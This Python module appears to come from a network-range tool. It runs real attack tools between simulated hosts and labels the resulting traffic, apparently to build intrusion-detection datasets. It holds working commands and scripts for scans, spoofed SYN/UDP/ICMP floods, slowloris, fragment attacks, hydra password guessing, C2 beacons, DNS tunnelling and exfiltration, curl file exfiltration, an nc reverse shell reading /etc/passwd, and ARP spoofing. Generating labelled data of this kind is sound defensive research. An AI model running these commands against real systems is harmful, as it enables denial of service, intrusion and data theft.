# SPDX-License-Identifier: Apache-2.0
"""The attacks of a range: real tools, each a function of its kind.

A scenario names the kind, the tool where there are several, who and whom.  Each run is
written down as rules of ground truth (include/lapwing/labels.h): when, from where, to
where.  Attackers do nothing else than attack, unless the rule names a port and a host
that nobody else talks to.
"""
import random
import subprocess
import sys
import time


from world import SPOOFED, write

COLUMNS = ("start", "end", "src", "dst", "proto", "dport", "class", "kind", "tool",
           "description")
PASSWORDS = "/srv/guesses.txt"
# Debian's, which has scapy; the one that runs this may be another.
PYTHON = "/usr/bin/python3"


class Attack:
    """One attack of a scenario: `kind`, `tool`, the hosts, and its options."""

    def __init__(self, world, spec, seed):
        self.world = world
        self.kind = spec["kind"]
        self.tool = spec.get("tool", DEFAULT[self.kind])
        self.at = float(spec["at"])
        names = spec["from"] if isinstance(spec["from"], list) else [spec["from"]]
        self.sources = [world.hosts[n] for n in names]
        self.victim = world.hosts.get(spec.get("to"))
        self.options = spec
        self.rng = random.Random(seed)
        self.rows = []

    def get(self, name, default):
        return self.options.get(name, default)

    def run(self):
        DO[self.kind](self)

    def rule(self, begun, src, dst, proto, dport, text):
        # The last packet may be on its way when the tool has ended.
        self.rows.append((f"{begun:.6f}", f"{time.time() + 0.3:.6f}", src, dst, proto, dport,
                          CLASS[self.kind], self.kind, self.tool, text))

    def rule_of_many(self, begun, src, dst, proto, dport, text):
        """A rule for made-up sources, or for all addresses: hosts that exist are not meant."""
        self.rule(begun, src, dst, proto, dport, text)
        start, end = self.rows[-1][:2]
        others = [h.address for h in self.world.hosts.values() if h not in self.sources]
        for address in others:
            a, b = (address, dst) if src == "any" else (src, address)
            if a != b:
                self.rows.append((start, end, a, b, proto, dport, "Normal", "", "", ""))

    def searched_by_router(self, begun):
        """A sweep that goes through the router makes it ask who has each address."""
        if self.sources[0].is_outside or self.tool == "masscan":
            self.rule_of_many(begun, self.world.gateway, str(self.world.inside), "arp", "any",
                              "the router looks for the addresses of the sweep")

    def shoot(self, text, *command, dst=None, proto="any", dport="any", seconds=60, source=None):
        """Run a tool from the first source, for so long at most, and note it."""
        source = source or self.sources[0]
        begun = time.time()
        source.do(*command, timeout=self.get("seconds", seconds))
        self.rule(begun, source.address, dst or self.victim.address, proto, dport, text)

    def together(self, text, make, seconds, dst=None, proto="any", dport="any", src=None):
        """The same tool from all sources at once; make(host) gives its words."""
        begun = time.time()
        running = [host.start(*make(host)) for host in self.sources]
        end = begun + self.get("seconds", seconds)
        for process in running:
            try:
                process.wait(max(0.1, end - time.time()))
            except subprocess.TimeoutExpired:
                process.terminate()
                process.wait()
        if src == "any":
            self.rule_of_many(begun, src, dst or self.victim.address, proto, dport, text)
            return
        for host in self.sources:
            self.rule(begun, src or host.address, dst or self.victim.address, proto, dport, text)
            if src:
                break


# ---- looking around ---------------------------------------------------------------

def ping_sweep(a):
    net = str(a.world.inside)
    begun = time.time()
    if a.tool == "fping":
        a.shoot("echo requests to all addresses", "fping", "-q", "-a", "-g", net, "-r", "1",
                dst=net)
    else:
        a.shoot("host discovery of all addresses", "nmap", "-n", "-sn", net, dst=net)
    a.searched_by_router(begun)


def port_scan(a):
    """SYN, connect, FIN, Xmas, NULL, UDP or version scans by nmap; SYN by others."""
    way = a.get("way", "syn")
    flag = {"syn": "-sS", "connect": "-sT", "fin": "-sF", "xmas": "-sX", "null": "-sN",
            "udp": "-sU", "version": "-sV", "ack": "-sA"}[way]
    rate = str(a.get("rate", 400))
    ports = str(a.get("ports", 1000))
    text = f"{'connect' if a.tool == 'connect.py' else way} scan of {ports} ports, {rate} a second at most"
    victim = a.victim.address
    if a.tool == "masscan":
        a.shoot(text, "masscan", victim, "-p", f"1-{ports}", "--rate", rate, "--wait", "2",
                "--adapter-ip", a.sources[0].address, "--interface", "eth0",
                "--router-mac", _router_mac(a))
    elif a.tool == "hping3":
        a.shoot(text, "hping3", "-q", "-S", "--scan", f"1-{ports}", victim)
    elif a.tool == "connect.py":
        a.shoot(text, sys.executable, "-c", CONNECT, victim, ports, rate, proto="tcp")
    else:
        a.shoot(text, "nmap", "-n", "-Pn", flag, "--max-rate", rate, "--top-ports", ports,
                "--max-retries", "1", victim, seconds=90)


def slow_scan(a):
    """A few ports a second or less, in random order."""
    if a.tool == "connect.py":
        a.shoot("slow connect scan", sys.executable, "-c", CONNECT, a.victim.address,
                str(a.get("ports", 200)), str(a.get("rate", 3)), proto="tcp", seconds=80)
        return
    a.shoot("slow SYN scan", "nmap", "-n", "-Pn", "-sS", "--max-rate",
            str(a.get("rate", 3)), "--top-ports", str(a.get("ports", 200)), "--max-retries", "0",
            a.victim.address, seconds=80)


def service_sweep(a):
    """One port at all addresses."""
    net = str(a.world.inside)
    begun = time.time()
    port = str(a.get("port", 445))
    if a.tool == "masscan":
        a.shoot(f"port {port} at all addresses", "masscan", net, "-p", port, "--rate", "200",
                "--wait", "2", "--adapter-ip", a.sources[0].address, "--interface", "eth0",
                "--router-mac", _router_mac(a), dst=net)
    else:
        a.shoot(f"port {port} at all addresses", "nmap", "-n", "-Pn", "-sS", "-p", port,
                "--max-rate", "200", "--max-retries", "0", net, dst=net)
    a.searched_by_router(begun)


def _router_mac(a):
    inside = not a.sources[0].is_outside
    device = "lan" if inside else "wan"
    text = subprocess.run(("ip", "netns", "exec", "router", "cat",
                           f"/sys/class/net/{device}/address"), capture_output=True, text=True,
                          check=True).stdout
    return text.strip()


CONNECT = """
import random, socket, sys, time
ports = list(range(1, int(sys.argv[2]) + 1))
random.shuffle(ports)
for port in ports:
    s = socket.socket()
    s.settimeout(0.3)
    try:
        s.connect((sys.argv[1], port))
    except OSError:
        pass
    s.close()
    time.sleep(1 / float(sys.argv[3]))
"""

# ---- floods -----------------------------------------------------------------------

_HPING = {"syn_flood": ("-S",), "ack_flood": ("-A",), "udp_flood": ("--udp",),
          "icmp_flood": ("--icmp",)}
_NPING = {"syn_flood": ("--tcp", "--flags", "syn"), "ack_flood": ("--tcp", "--flags", "ack"),
          "udp_flood": ("--udp",), "icmp_flood": ("--icmp",)}


def flood(a):
    """So many packets at a rate from every source, with spoofed sources if wanted."""
    port = str(a.get("port", {"udp_flood": 53}.get(a.kind, 80)))
    rate = a.get("rate", 1000)
    packets = a.get("packets", 15000)
    spoofed = a.get("spoofed", False)
    has_port = a.kind != "icmp_flood"
    size = str(a.get("size", {"udp_flood": 200, "icmp_flood": 200}.get(a.kind, 0)))

    def words(_):
        if a.tool == "nping":
            return ("nping", "-q", "-N", "--rate", str(rate), "-c", str(packets),
                    *_NPING[a.kind], *(("-p", port) if has_port else ()),
                    *(("--data-length", size) if size != "0" else ()),
                    a.victim.address)
        if a.tool == "flood.py":
            return (sys.executable, "-c", FLOOD, a.victim.address, port, str(rate),
                    str(packets), size)
        return ("hping3", "-q", *_HPING[a.kind], "-i", f"u{max(1, 1000000 // rate)}", "-c",
                str(packets), "-d", size, *(("-p", port) if has_port else ()),
                *(("--rand-source",) if spoofed == "any" else
                  ("-a", str(a.rng.choice(list(SPOOFED.hosts())))) if spoofed else ()),
                a.victim.address)

    src = None
    if spoofed:
        src = "any" if spoofed == "any" else str(SPOOFED)
    a.together(f"{a.kind}: {packets} packets from each of {len(a.sources)}, {rate} a second"
               + (", spoofed" if spoofed else ""), words, packets / rate + 8,
               src=src, proto={"udp_flood": "udp", "icmp_flood": "icmp"}.get(a.kind, "tcp"),
               dport=port if has_port else "any")


FLOOD = """
import socket, sys, time, os
s = socket.socket(2, 2)
began = time.time()
for i in range(int(sys.argv[4])):
    s.sendto(os.urandom(int(sys.argv[5])), (sys.argv[1], int(sys.argv[2])))
    time.sleep(max(0, began + i / float(sys.argv[3]) - time.time()))
"""


def land(a):
    begun = time.time()
    for port in (80, 22, 139, 443):
        a.sources[0].do("hping3", "-q", "-S", "-c", "25", "-i", "u20000", "-s", str(port), "-k",
                        "-p", str(port), "-a", a.victim.address, a.victim.address, timeout=5)
    a.rule(begun, a.victim.address, a.victim.address, "tcp", "any",
           "SYNs from the victim's own address and port")


def fragments(a):
    """Fragments that overlap, or whose rest never comes."""
    begun = time.time()
    a.sources[0].do(PYTHON, "-c", FRAGMENTS, a.sources[0].address, a.victim.address,
                    str(a.get("packets", 300)), timeout=30)
    a.rule(begun, a.sources[0].address, a.victim.address, "any", "any",
           "overlapping and unfinished fragments")


FRAGMENTS = """
import logging, sys
logging.getLogger("scapy.runtime").setLevel(logging.ERROR)
from scapy.all import IP, UDP, ICMP, Raw, send, conf
conf.verb = 0
src, dst, n = sys.argv[1], sys.argv[2], int(sys.argv[3])
batch = []
for i in range(n):
    batch.append(IP(src=src, dst=dst, id=1000 + i, flags="MF", frag=0, proto=17) /
                 Raw(bytes(UDP(sport=4000 + i, dport=53, len=64)) + bytes(32)))
    if i % 3:
        batch.append(IP(src=src, dst=dst, id=1000 + i, frag=4 if i % 3 == 1 else 3, proto=17) /
                     Raw(bytes(24)))
send(batch, inter=0.01)
"""


def http_flood(a):
    """Requests as fast as they go, by ApacheBench or by curl in a loop."""
    url = f"http://{a.victim.address}/page{a.rng.randrange(40)}.html"

    def words(_):
        if a.tool == "curl":
            return ("sh", "-c", f"while :; do curl -s -o /dev/null -Z --parallel-max 20 "
                    f"'{url}?[1-60]'; done")
        return ("ab", "-q", "-n", str(a.get("requests", 6000)), "-c", "40", "-s", "5", url)

    a.together("HTTP requests without pause", words, 15, proto="tcp", dport="80")


def slow_http(a):
    """Requests that never end, by slowhttptest or by sockets."""
    way = {"headers": "-H", "body": "-B", "read": "-X"}[a.get("way", "headers")]
    n = str(a.get("connections", 200))
    if a.tool == "slowloris.py":
        a.shoot("request headers that never end", sys.executable, "-c", SLOWLORIS,
                a.victim.address, n, proto="tcp", dport="80", seconds=25)
    else:
        a.shoot(f"slow {a.get('way', 'headers')}", "slowhttptest", way, "-c", n, "-i", "5", "-r",
                "40", "-l", "25", "-u", f"http://{a.victim.address}/", proto="tcp", dport="80",
                seconds=30)


SLOWLORIS = """
import socket, sys, time
held = []
for i in range(int(sys.argv[2])):
    s = socket.socket()
    s.settimeout(3)
    try:
        s.connect((sys.argv[1], 80))
        s.send(b"GET / HTTP/1.1\\r\\nHost: x\\r\\n")
        held.append(s)
    except OSError:
        pass
    time.sleep(0.02)
while True:
    time.sleep(4)
    for s in held:
        try:
            s.send(b"X-a: b\\r\\n")
        except OSError:
            pass
"""

# ---- guessing ---------------------------------------------------------------------


def guess(a):
    """Passwords, none of them right, for one user or several."""
    service = a.get("service", "ssh")
    port = {"ssh": "22", "ftp": "21", "telnet": "23", "http": "80", "pop3": "110",
            "imap": "143", "smb": "445", "postgres": "5432"}[service]
    words = "123456 password office summer winter dragon monkey qwerty letmein welcome".split()
    count = a.get("guesses", 60)
    guesses = [w + end for end in ("", "1", "12", "2024", "!", "#1", "99", "007") for w in words]
    write(PASSWORDS, "\n".join(guesses[:count]) + "\n")
    victim = a.victim.address
    user = a.get("user", "alice")
    text = f"{count} {service} passwords for {user}, none right"
    if a.tool == "medusa":
        module = {"http": "http", "smb": "smbnt"}.get(service, service)
        extra = ("-m", "DIR:/private/") if service == "http" else ()
        a.shoot(text, "medusa", "-h", victim, "-u", user, "-P", PASSWORDS, "-M", module, "-t", "4",
                *extra, proto="tcp", dport=port)
    elif a.tool == "ncrack":
        a.shoot(text, "ncrack", "-p", f"{service}:{port}", "--user", user, "-P", PASSWORDS, "-T4",
                victim, proto="tcp", dport=port)
    elif a.tool == "curl":
        a.shoot(text, "sh", "-c", f"while read p; do curl -s -o /dev/null -u {user}:$p "
                f"http://{victim}/private/; sleep 0.1; done <{PASSWORDS}", proto="tcp", dport=port)
    else:
        module = {"http": "http-get"}.get(service, service)
        target = f"{module}://{victim}" + ("/private/" if service == "http" else "")
        a.shoot(text, "hydra", "-q", "-I", "-l", user, "-P", PASSWORDS, "-t", "4", target,
                proto="tcp", dport=port)


# ---- from within ------------------------------------------------------------------

def beacon(a):
    """A bot asks its master for orders, again and again, with jitter."""
    mean = a.get("every", 4)
    port = str(a.get("port", 443))
    scheme = "https" if port == "443" else "http"
    begun = time.time()
    end = begun + a.get("seconds", 60)
    while time.time() < end:
        path = a.rng.choice(("part1.bin", "api/task", "api/task", "api/task"))
        if a.tool == "nc":
            a.sources[0].do("sh", "-c", f"echo hello {a.rng.randrange(9999)} | timeout 2 nc -w 1 "
                            f"{a.victim.address} {port}", timeout=4)
        else:
            a.sources[0].do("curl", "-sk", "-o", "/dev/null", "--max-time", "5", "-d",
                            f"id={a.rng.randrange(10**9)}",
                            f"{scheme}://{a.victim.address}:{port}/{path}", timeout=8)
        time.sleep(max(0.2, a.rng.gauss(mean, mean / 5)))
    a.rule(begun, a.sources[0].address, a.victim.address, "tcp", port,
           f"beacon every {mean} s with jitter")


def dns_tunnel(a):
    """iodine or dns2tcp to a server outside, and something through it."""
    begun = time.time()
    host = a.sources[0]
    if a.tool == "dns2tcp":
        client = host.start("dns2tcpc", "-z", "d.example.net", "-k", "secret", "-r", "web", "-l",
                            "8053", "-T", a.get("record", "TXT"), a.victim.address)
        url = "http://127.0.0.1:8053/page1.html"
    else:
        client = host.start("iodine", "-f", "-r", "-P", "secret", "-T", a.get("record", "NULL"),
                            a.victim.address, "t.example.net")
        url = "http://10.99.0.1/page1.html"
    time.sleep(6)
    end = begun + a.get("seconds", 40)
    while time.time() < end:
        if a.tool == "iodine":
            host.do("ping", "-c", "5", "-i", "0.3", "-s", "400", "10.99.0.1", timeout=8)
        host.do("curl", "-s", "-o", "/dev/null", "--max-time", "6", url, timeout=8)
        time.sleep(0.5)
    client.terminate()
    client.wait()
    a.rule(begun, host.address, a.victim.address, "udp", "53", "tunnel in DNS")


def dns_theft(a):
    """Data in the names of lookups at the local resolver, by one host that asks
    nothing else."""
    begun = time.time()
    seconds = a.get("seconds", 30)
    if a.tool == "lookup.py":
        a.sources[0].do(sys.executable, "-c", LOOKUPS, a.victim.address, str(seconds),
                        str(a.rng.random()), timeout=seconds + 10)
    while a.tool == "dig" and time.time() < begun + seconds:
        label = "%060x" % a.rng.getrandbits(240)
        a.sources[0].do("dig", "+tries=1", f"@{a.victim.address}",
                        f"{label}.{a.rng.randrange(999)}.x.example.net", "TXT", timeout=4)
    a.rule(begun, a.sources[0].address, a.victim.address, "udp", "53",
           "data in the names of lookups")


LOOKUPS = """
import random, socket, sys, time
rng = random.Random(sys.argv[3])
s = socket.socket(2, 2)
s.settimeout(1)
s.connect((sys.argv[1], 53))
end = time.time() + float(sys.argv[2])
while time.time() < end:
    label = bytes(rng.choice(b"abcdefghijklmnopqrstuvwxyz234567") for _ in range(50))
    name = b"".join(bytes([len(w)]) + w for w in (label, b"y", b"example", b"net")) + b"\\0"
    s.send(rng.randbytes(2) + b"\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + name + b"\\0\\1\\0\\1")
    try:
        s.recv(2000)
    except OSError:
        pass
    time.sleep(rng.uniform(0.05, 0.4))
"""


def theft(a):
    """Files go out, by FTP or HTTP."""
    big = f"/srv/www/big{a.get('megabytes', 4)}.bin"
    if a.get("way", "http") == "ftp":
        a.shoot("files go out by FTP", "curl", "-s", "-T", big,
                f"ftp://alice:alice-Kiebitz-77@{a.victim.address}/x{a.rng.randrange(99)}.bin",
                proto="tcp")
    else:
        a.shoot("files go out by HTTP", "curl", "-sk", "-o", "/dev/null", "-T", big,
                f"http://{a.victim.address}/upload", proto="tcp", dport="80")


def reverse_shell(a):
    """A shell on the victim's side, typed at from outside."""
    port = str(a.get("port", 4444))
    begun = time.time()
    listener = a.victim.start("sh", "-c", f"(for c in id 'ls -la /' 'cat /etc/passwd' 'ps aux' "
                              f"'find / -name \"*.conf\" -maxdepth 3'; do sleep 3; echo $c; done; "
                              f"sleep 2) | nc -l -p {port} -q 1")
    time.sleep(1)
    a.sources[0].do("sh", "-c", f"rm -f /tmp/f{port}; mkfifo /tmp/f{port}; sh </tmp/f{port} 2>&1 | "
                    f"nc {a.victim.address} {port} >/tmp/f{port}", timeout=a.get("seconds", 30))
    listener.terminate()
    listener.wait()
    a.rule(begun, a.sources[0].address, a.victim.address, "tcp", port, "shell typed at from outside")


def arp_spoof(a):
    """The attacker claims to be the router."""
    begun = time.time()
    host = a.sources[0]
    if a.tool == "scapy":
        words = (PYTHON, "-c", CLAIM, a.world.gateway, a.victim.address)
    else:
        words = ("arpspoof", "-i", "eth0", "-t", a.victim.address, a.world.gateway)
    spoof = host.start(*words)
    time.sleep(a.get("seconds", 20))
    spoof.terminate()
    spoof.wait()
    a.rule(begun, a.world.gateway, a.victim.address, "arp", "any",
           f"answers nobody asked for: the attacker is the router, from {begun:.6f}")
    # The two have asked for each other before, in the flow that the answers become part of.
    a.rows[-1] = ("*", *a.rows[-1][1:])


CLAIM = """
import logging, sys
logging.getLogger("scapy.runtime").setLevel(logging.ERROR)
from scapy.all import ARP, Ether, getmacbyip, sendp
gateway, victim = sys.argv[1:]
mac = getmacbyip(victim)
sendp(Ether(dst=mac) / ARP(op=2, psrc=gateway, pdst=victim, hwdst=mac), inter=1, loop=1,
      verbose=0)
"""

DO = {
    "ping_sweep": ping_sweep, "port_scan": port_scan, "slow_scan": slow_scan,
    "service_sweep": service_sweep, "syn_flood": flood, "ack_flood": flood,
    "udp_flood": flood, "icmp_flood": flood, "land": land, "fragments": fragments,
    "http_flood": http_flood, "slow_http": slow_http, "guess": guess, "beacon": beacon,
    "dns_tunnel": dns_tunnel, "dns_theft": dns_theft, "theft": theft,
    "reverse_shell": reverse_shell, "arp_spoof": arp_spoof,
}
DEFAULT = {
    "ping_sweep": "nmap", "port_scan": "nmap", "slow_scan": "nmap", "service_sweep": "nmap",
    "syn_flood": "hping3", "ack_flood": "hping3", "udp_flood": "hping3",
    "icmp_flood": "hping3", "land": "hping3", "fragments": "scapy", "http_flood": "ab",
    "slow_http": "slowhttptest", "guess": "hydra", "beacon": "curl", "dns_tunnel": "iodine",
    "dns_theft": "dig", "theft": "curl", "reverse_shell": "nc", "arp_spoof": "arpspoof",
}
CLASS = {
    "ping_sweep": "Probe", "port_scan": "Probe", "slow_scan": "Probe",
    "service_sweep": "Probe", "syn_flood": "DoS", "ack_flood": "DoS", "udp_flood": "DoS",
    "icmp_flood": "DoS", "land": "DoS", "fragments": "DoS", "http_flood": "DoS",
    "slow_http": "DoS", "guess": "R2L", "beacon": "Botnet", "dns_tunnel": "Botnet",
    "dns_theft": "Botnet", "theft": "Botnet", "reverse_shell": "Botnet", "arp_spoof": "Probe",
}
assert set(DO) == set(DEFAULT) == set(CLASS)
